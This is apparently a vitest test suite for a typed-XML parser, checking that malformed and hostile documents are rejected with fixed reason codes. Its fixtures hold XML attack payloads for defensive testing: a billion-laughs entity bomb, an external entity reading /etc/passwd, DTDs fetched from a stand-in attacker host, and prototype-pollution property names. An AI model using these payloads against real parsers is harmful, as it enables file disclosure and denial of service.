import { describe, expect, it } from 'vitest';
import { LIMITS } from '../limits.ts';
import { parseTypedXml } from './parse.ts';
import { REASONS } from './reasons.ts';
import { arrayOfNulls, bytes, concatBytes, doc, NS, nestedArrays, SECRET } from './test-support.ts';

type ReasonKey = keyof typeof REASONS;

interface Case {
  title: string;
  body: string | Uint8Array;
  reason: ReasonKey;
  root?: 'request' | 'response';
}

const S = SECRET;
const LOL_DTD = [
  '<!DOCTYPE request [',
  `<!ENTITY lol0 "${S}">`,
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
  ']>',
].join('\n');

const cases: Case[] = [
  // Document type declarations and entities
  { title: 'a document type declaration', body: `<!DOCTYPE request>${doc('<null/>')}`, reason: 'doctype' },
  { title: 'billion laughs', body: `${LOL_DTD}${doc('<string>&lol9;</string>')}`, reason: 'doctype' },
  {
    title: 'an external entity (SYSTEM file:///etc/passwd)',
    body: `<!DOCTYPE request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${doc('<string>&xxe;</string>')}`,
    reason: 'doctype',
  },
  {
    title: 'a parameter entity',
    body: `<!DOCTYPE request [<!ENTITY % pe SYSTEM "http://attacker.invalid/${S}.dtd"> %pe;]>${doc('<null/>')}`,
    reason: 'doctype',
  },
  {
    title: 'an external DTD subset',
    body: `<!DOCTYPE request SYSTEM "http://attacker.invalid/${S}.dtd">${doc('<null/>')}`,
    reason: 'doctype',
  },
  { title: 'an undeclared entity reference', body: doc(`<string>&${S.replace(/-/g, '')};</string>`), reason: 'entity' },
  {
    title: 'an entity named like an Object.prototype member',
    body: doc('<string>&constructor;</string>'),
    reason: 'entity',
  },
  {
    title: 'an undeclared entity in an attribute',
    body: doc('<object><property name="&x;"><null/></property></object>'),
    reason: 'entity',
  },
  // saxes reads to the next ';' for the entity name and so reports the document unfinished.
  { title: 'a bare ampersand', body: doc(`<string>a & ${S}</string>`), reason: 'notWellFormed' },
  { title: 'an empty entity name', body: doc('<string>&;</string>'), reason: 'entity' },
  { title: 'a malformed character reference', body: doc('<string>&#xZZ;</string>'), reason: 'charRef' },
  { title: 'a character reference to U+0000', body: doc('<string>&#0;</string>'), reason: 'charRef' },
  { title: 'a character reference to U+0001', body: doc('<string>&#x1;</string>'), reason: 'charRef' },
  { title: 'a character reference to U+FFFE', body: doc('<string>&#xFFFE;</string>'), reason: 'charRef' },
  { title: 'a character reference to a surrogate', body: doc('<string>&#xD800;</string>'), reason: 'charRef' },
  // Comments, CDATA, processing instructions
  { title: 'a comment inside the root', body: doc(`<!-- ${S} --><null/>`), reason: 'comment' },
  { title: 'a comment before the root', body: `<!-- ${S} -->${doc('<null/>')}`, reason: 'comment' },
  { title: 'a comment after the root', body: `${doc('<null/>')}<!-- ${S} -->`, reason: 'comment' },
  { title: 'a comment inside a string', body: doc(`<string>a<!-- ${S} -->b</string>`), reason: 'comment' },
  { title: 'a CDATA section', body: doc(`<string><![CDATA[${S}]]></string>`), reason: 'cdata' },
  {
    title: 'a processing instruction before the root',
    body: `<?xml-stylesheet href="${S}"?>${doc('<null/>')}`,
    reason: 'processingInstruction',
  },
  {
    title: 'a processing instruction inside the root',
    body: doc(`<?${S.slice(0, 6)} x?><null/>`),
    reason: 'processingInstruction',
  },
  {
    title: 'a processing instruction after the root',
    body: `${doc('<null/>')}<?pi ${S}?>`,
    reason: 'processingInstruction',
  },
  // The XML declaration
  { title: 'XML version 1.1', body: doc('<null/>', { declaration: '<?xml version="1.1"?>' }), reason: 'xmlVersion' },
  { title: 'XML version 1.01', body: doc('<null/>', { declaration: '<?xml version="1.01"?>' }), reason: 'xmlVersion' },
  {
    title: 'encoding ISO-8859-1',
    body: doc('<null/>', { declaration: '<?xml version="1.0" encoding="ISO-8859-1"?>' }),
    reason: 'xmlEncoding',
  },
  {
    title: 'encoding UTF-16 on UTF-8 bytes',
    body: doc('<null/>', { declaration: '<?xml version="1.0" encoding="UTF-16"?>' }),
    reason: 'xmlEncoding',
  },
  {
    title: 'encoding UTF8 (not the IANA name)',
    body: doc('<null/>', { declaration: '<?xml version="1.0" encoding="UTF8"?>' }),
    reason: 'xmlEncoding',
  },
  {
    title: 'a declaration after leading whitespace',
    body: ` ${doc('<null/>', { declaration: '<?xml version="1.0"?>' })}`,
    reason: 'xmlDeclaration',
  },
  {
    title: 'a declaration without version',
    body: doc('<null/>', { declaration: '<?xml encoding="UTF-8"?>' }),
    reason: 'xmlDeclaration',
  },
  {
    title: 'a second XML declaration',
    body: `<?xml version="1.0"?>${doc('<null/>', { declaration: '<?xml version="1.0"?>' })}`,
    reason: 'xmlDeclaration',
  },
  // Invalid UTF-8
  {
    title: 'an overlong encoding of "/"',
    body: concatBytes(doc('<string>'), new Uint8Array([0xc0, 0xaf]), '</string></request>'),
    reason: 'invalidUtf8',
  },
  {
    title: 'a lone continuation byte',
    body: concatBytes(doc('<string>'), new Uint8Array([0x80]), '</string></request>'),
    reason: 'invalidUtf8',
  },
  {
    title: 'an encoded surrogate (CESU-8)',
    body: concatBytes(doc('<string>'), new Uint8Array([0xed, 0xa0, 0x80]), '</string></request>'),
    reason: 'invalidUtf8',
  },
  {
    title: 'a truncated sequence',
    body: concatBytes(doc('<string>'), new Uint8Array([0xe2, 0x82]), '</string></request>'),
    reason: 'invalidUtf8',
  },
  { title: 'a byte 0xFF', body: concatBytes(new Uint8Array([0xff]), doc('<null/>')), reason: 'invalidUtf8' },
  {
    title: 'a UTF-16 body with its byte order mark',
    body: concatBytes(new Uint8Array([0xff, 0xfe]), '<\0r\0/\0>\0'),
    reason: 'invalidUtf8',
  },
  // Not well-formed
  { title: 'an unclosed element', body: doc('<string>x').replace('</request>', ''), reason: 'notWellFormed' },
  { title: 'mismatched tags', body: doc(`<string>${S}</number>`), reason: 'notWellFormed' },
  {
    title: 'an unquoted attribute',
    body: doc(`<object><property name=${S}><null/></property></object>`),
    reason: 'notWellFormed',
  },
  { title: 'a "<" in text', body: doc('<string>a < b</string>'), reason: 'notWellFormed' },
  { title: 'two roots', body: doc('<null/>') + doc('<null/>'), reason: 'notWellFormed' },
  { title: 'text after the root', body: `${doc('<null/>')}${S}`, reason: 'notWellFormed' },
  { title: 'an empty body', body: '', reason: 'notWellFormed' },
  {
    title: 'a duplicate attribute',
    body: doc('<object><property name="a" name="b"><null/></property></object>'),
    reason: 'notWellFormed',
  },
  { title: '"]]>" in text', body: doc(`<string>${S}]]></string>`), reason: 'cdataEnd' },
  { title: 'a raw control character', body: doc(`<string>${S}\u0001</string>`), reason: 'invalidCharacter' },
  { title: 'a raw U+FFFF', body: doc('<string>\uFFFF</string>'), reason: 'invalidCharacter' },
  { title: 'an unbound prefix', body: doc(`<${S.slice(0, 5)}:null/>`), reason: 'namespaceSyntax' },
  // Namespace and root
  { title: 'no namespace', body: `<request version="1"><null/></request>`, reason: 'wrongNamespace' },
  {
    title: 'another namespace on the root',
    body: doc('<null/>', { rootAttributes: `xmlns="urn:${S}" version="1"` }),
    reason: 'wrongNamespace',
  },
  {
    title: 'the v2 namespace',
    body: doc('<null/>', { rootAttributes: 'xmlns="urn:service:partner-api:v2" version="1"' }),
    reason: 'wrongNamespace',
  },
  { title: 'a typed child in another namespace', body: doc(`<o:null xmlns:o="urn:${S}"/>`), reason: 'wrongNamespace' },
  {
    title: 'a typed child with the default namespace undeclared',
    body: doc('<p:object xmlns:p="urn:x"/>'),
    reason: 'wrongNamespace',
  },
  {
    title: 'a response root where a request is expected',
    body: doc('<null/>', { root: 'response' }),
    reason: 'wrongRoot',
  },
  { title: 'a request root where a response is expected', body: doc('<null/>'), reason: 'wrongRoot', root: 'response' },
  { title: 'a typed element as the root', body: `<null xmlns="${NS}" version="1"/>`, reason: 'wrongRoot' },
  {
    title: 'a root without version',
    body: doc('<null/>', { rootAttributes: `xmlns="${NS}"` }),
    reason: 'missingVersion',
  },
  {
    title: 'a root with version="2"',
    body: doc('<null/>', { rootAttributes: `xmlns="${NS}" version="2"` }),
    reason: 'wrongVersion',
  },
  {
    title: 'a root with version="1.0"',
    body: doc('<null/>', { rootAttributes: `xmlns="${NS}" version="1.0"` }),
    reason: 'wrongVersion',
  },
  {
    title: 'a root with version=" 1"',
    body: doc('<null/>', { rootAttributes: `xmlns="${NS}" version=" 1"` }),
    reason: 'wrongVersion',
  },
  // Attributes
  {
    title: 'another attribute on the root',
    body: doc('<null/>', { rootAttributes: `xmlns="${NS}" version="1" id="${S}"` }),
    reason: 'unexpectedAttribute',
  },
  {
    title: 'xml:lang on the root',
    body: doc('<null/>', { rootAttributes: `xmlns="${NS}" version="1" xml:lang="en"` }),
    reason: 'unexpectedAttribute',
  },
  {
    title: 'a prefixed version attribute',
    body: doc('<p:null/>', { prefix: 'p', rootAttributes: `xmlns:p="${NS}" p:version="1"` }),
    reason: 'unexpectedAttribute',
  },
  { title: 'an attribute on string', body: doc(`<string type="${S}">x</string>`), reason: 'unexpectedAttribute' },
  { title: 'an attribute on object', body: doc('<object a="b"/>'), reason: 'unexpectedAttribute' },
  {
    title: 'an attribute on item',
    body: doc('<array><item i="0"><null/></item></array>'),
    reason: 'unexpectedAttribute',
  },
  {
    title: 'a name attribute on item',
    body: doc('<array><item name="a"><null/></item></array>'),
    reason: 'unexpectedAttribute',
  },
  {
    title: 'another attribute on property',
    body: doc('<object><property name="a" x="y"><null/></property></object>'),
    reason: 'unexpectedAttribute',
  },
  { title: 'a version attribute on a typed child', body: doc('<null version="1"/>'), reason: 'unexpectedAttribute' },
  // Structure
  { title: 'a root with no typed child', body: doc(''), reason: 'rootChildCount' },
  { title: 'a self-closed root', body: `<request xmlns="${NS}" version="1"/>`, reason: 'rootChildCount' },
  { title: 'a root with two typed children', body: doc('<null/><null/>'), reason: 'rootChildCount' },
  { title: 'an unknown element', body: doc(`<${S.slice(0, 6)}/>`), reason: 'unknownElement' },
  {
    title: 'an unknown element in an object',
    body: doc('<object><field name="a"><null/></field></object>'),
    reason: 'unknownElement',
  },
  { title: 'an item directly under the root', body: doc('<item><null/></item>'), reason: 'misplacedElement' },
  {
    title: 'a property directly under the root',
    body: doc('<property name="a"><null/></property>'),
    reason: 'misplacedElement',
  },
  { title: 'a nested root element', body: doc('<request version="1"><null/></request>'), reason: 'misplacedElement' },
  { title: 'an item in an object', body: doc('<object><item><null/></item></object>'), reason: 'misplacedElement' },
  { title: 'a typed value directly in an object', body: doc('<object><null/></object>'), reason: 'misplacedElement' },
  {
    title: 'a property in an array',
    body: doc('<array><property name="a"><null/></property></array>'),
    reason: 'misplacedElement',
  },
  { title: 'a typed value directly in an array', body: doc('<array><null/></array>'), reason: 'misplacedElement' },
  {
    title: 'a property in a property',
    body: doc('<object><property name="a"><property name="b"><null/></property></property></object>'),
    reason: 'misplacedElement',
  },
  { title: 'text in the root', body: doc(`${S}<null/>`), reason: 'textOutsideScalar' },
  { title: 'text in an object', body: doc(`<object>${S}</object>`), reason: 'textOutsideScalar' },
  { title: 'text in an array', body: doc(`<array>${S}</array>`), reason: 'textOutsideScalar' },
  { title: 'text in an item', body: doc(`<array><item>${S}<null/></item></array>`), reason: 'textOutsideScalar' },
  {
    title: 'text in a property',
    body: doc(`<object><property name="a"><null/>${S}</property></object>`),
    reason: 'textOutsideScalar',
  },
  { title: 'a non-breaking space between elements', body: doc('<object>\u00a0</object>'), reason: 'textOutsideScalar' },
  { title: 'an element in a string', body: doc('<string>a<null/></string>'), reason: 'childInScalar' },
  { title: 'an element in a number', body: doc('<number><number>1</number></number>'), reason: 'childInScalar' },
  { title: 'an element in a boolean', body: doc('<boolean><string>true</string></boolean>'), reason: 'childInScalar' },
  { title: 'an element in a null', body: doc('<null><null/></null>'), reason: 'childInScalar' },
  {
    title: 'a property without name',
    body: doc('<object><property><null/></property></object>'),
    reason: 'missingPropertyName',
  },
  {
    title: 'a property with no typed child',
    body: doc('<object><property name="a"></property></object>'),
    reason: 'propertyChildCount',
  },
  {
    title: 'a property with only whitespace',
    body: doc('<object><property name="a"> </property></object>'),
    reason: 'propertyChildCount',
  },
  {
    title: 'a property with two typed children',
    body: doc('<object><property name="a"><null/><null/></property></object>'),
    reason: 'propertyChildCount',
  },
  { title: 'an item with no typed child', body: doc('<array><item/></array>'), reason: 'itemChildCount' },
  {
    title: 'an item with two typed children',
    body: doc('<array><item><null/><string/></item></array>'),
    reason: 'itemChildCount',
  },
  {
    title: 'duplicate property names',
    body: doc('<object><property name="a"><null/></property><property name="a"><number>1</number></property></object>'),
    reason: 'duplicatePropertyName',
  },
  {
    title: 'duplicate property names written differently',
    body: doc('<object><property name="a"><null/></property><property name="&#97;"><null/></property></object>'),
    reason: 'duplicatePropertyName',
  },
  ...['__proto__', 'prototype', 'constructor'].map(
    (name): Case => ({
      title: `property name ${name}`,
      body: doc(
        `<object><property name="${name}"><object><property name="polluted"><boolean>true</boolean></property></object></property></object>`,
      ),
      reason: 'reservedPropertyName',
    }),
  ),
  // Scalars
  ...[
    '',
    ' ',
    '0x10',
    '0X1F',
    'NaN',
    'Infinity',
    '-Infinity',
    '+1',
    '1e400',
    '-1e400',
    '01',
    '-01',
    '.5',
    '5.',
    '1e',
    '1e+',
    '--1',
    '- 1',
    ' 1',
    '1 ',
    '\n1',
    '1_000',
    '1,5',
    '\u0661',
    '１',
    '0b1',
    'true',
    S,
  ].map(
    (text): Case => ({
      title: `number ${JSON.stringify(text)}`,
      body: doc(`<number>${text}</number>`),
      reason: 'invalidNumber',
    }),
  ),
  { title: 'an empty number element', body: doc('<number/>'), reason: 'invalidNumber' },
  ...['', 'TRUE', 'True', 'FALSE', '1', '0', 'yes', ' true', 'true ', '\ntrue\n', S].map(
    (text): Case => ({
      title: `boolean ${JSON.stringify(text)}`,
      body: doc(`<boolean>${text}</boolean>`),
      reason: 'invalidBoolean',
    }),
  ),
  ...['x', '0', 'null', ' null ', S, '&#160;'].map(
    (text): Case => ({
      title: `null with content ${JSON.stringify(text)}`,
      body: doc(`<null>${text}</null>`),
      reason: 'invalidNull',
    }),
  ),
  // Limits (depth 33 and node 4,097 below; bytes in the too_large tests)
  { title: 'an element at level 33', body: doc(nestedArrays(34)), reason: 'tooDeep' },
];

describe('4.14 typed XML: documents that are rejected', () => {
  it.each(cases)('rejects $title', ({ body, reason, root }) => {
    const result = parseTypedXml(typeof body === 'string' ? bytes(body) : body, root ?? 'request');
    expect(result).toEqual({ ok: false, error: 'malformed', reason: REASONS[reason] });
  });

  it('never echoes document content in the reason', () => {
    const withSecret = cases.filter((c) => new TextDecoder().decode(bytes(String(c.body))).includes(SECRET));
    expect(withSecret.length).toBeGreaterThan(20);
    for (const c of cases) {
      const result = parseTypedXml(typeof c.body === 'string' ? bytes(c.body) : c.body, c.root ?? 'request');
      if (result.ok) throw new Error(`accepted: ${c.title}`);
      expect(result.reason).not.toContain(SECRET);
      expect(result.reason).not.toContain(SECRET.slice(0, 5));
      expect(Object.values(REASONS)).toContain(result.reason);
    }
  });

  it('does not pollute Object.prototype while refusing reserved names', () => {
    for (const name of ['__proto__', 'prototype', 'constructor']) {
      parseTypedXml(
        bytes(
          doc(
            `<object><property name="${name}"><object><property name="polluted"><boolean>true</boolean></property></object></property></object>`,
          ),
        ),
        'request',
      );
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('8 XML body limits', () => {
  const unlimitedBytes = { ...LIMITS.xml, maxBytes: Number.POSITIVE_INFINITY };

  it('rejects 32,001 bytes as too_large, though otherwise valid', () => {
    const base = doc('<string></string>');
    const body = bytes(doc(`<string>${'a'.repeat(LIMITS.xml.maxBytes - bytes(base).length + 1)}</string>`));
    expect(body.length).toBe(32_001);
    expect(parseTypedXml(body, 'request')).toEqual({ ok: false, error: 'too_large', reason: REASONS.tooLarge });
  });

  it('checks the size before anything else (invalid UTF-8 and a DTD over the limit are too_large)', () => {
    const garbage = new Uint8Array(LIMITS.xml.maxBytes + 1).fill(0xff);
    expect(parseTypedXml(garbage, 'request')).toMatchObject({ ok: false, error: 'too_large' });
    const bomb = `${LOL_DTD}${doc(`<string>${'&lol9;'.repeat(6000)}</string>`)}`;
    expect(parseTypedXml(bytes(bomb), 'request')).toMatchObject({ ok: false, error: 'too_large' });
  });

  it('rejects the 4,097th element (4,098 in the document) and stops there', () => {
    // 2 + 2 * 2048 = 4098 elements; the item of the last pair is element 4,097.
    const result = parseTypedXml(bytes(doc(arrayOfNulls(2048))), 'request', unlimitedBytes);
    expect(result).toEqual({ ok: false, error: 'malformed', reason: REASONS.tooManyNodes });
  });

  it('applies the spec limits by default: more elements than fit in 32,000 bytes are refused', () => {
    expect(parseTypedXml(bytes(doc(arrayOfNulls(2048))), 'request')).toMatchObject({ ok: false, error: 'too_large' });
    expect(parseTypedXml(bytes(doc(nestedArrays(34))), 'request')).toMatchObject({ reason: REASONS.tooDeep });
  });

  it('stops at the node limit: a million elements cost little', () => {
    const body = bytes(doc(`<array>${'<item><null/></item>'.repeat(500_000)}</array>`));
    const started = performance.now();
    const result = parseTypedXml(body, 'request', unlimitedBytes);
    const elapsed = performance.now() - started;
    expect(result).toMatchObject({ reason: REASONS.tooManyNodes });
    // Reading all 10 MB would take far longer; stopping at element 4,097 takes a few milliseconds.
    expect(elapsed).toBeLessThan(500);
  });

  it('stops at the depth limit: 100,000 levels cost little', () => {
    const body = bytes(doc(`${'<array><item>'.repeat(50_000)}<null/>${'</item></array>'.repeat(50_000)}`));
    const started = performance.now();
    const result = parseTypedXml(body, 'request', { ...unlimitedBytes, maxNodes: Number.POSITIVE_INFINITY });
    expect(result).toMatchObject({ reason: REASONS.tooDeep });
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('refuses billion laughs and a quadratic blow-up fast, without expanding them', () => {
    const big = 'A'.repeat(12_000);
    const quadratic = `<!DOCTYPE request [<!ENTITY a "${big}">]>${doc(`<string>${'&a;'.repeat(5_000)}</string>`)}`;
    expect(bytes(quadratic).length).toBeLessThanOrEqual(LIMITS.xml.maxBytes);
    const billion = `${LOL_DTD}${doc(`<string>${'&lol9;'.repeat(100)}</string>`)}`;
    for (const body of [quadratic, billion]) {
      const started = performance.now();
      expect(parseTypedXml(bytes(body), 'request')).toEqual({ ok: false, error: 'malformed', reason: REASONS.doctype });
      expect(performance.now() - started).toBeLessThan(200);
    }
  });
});
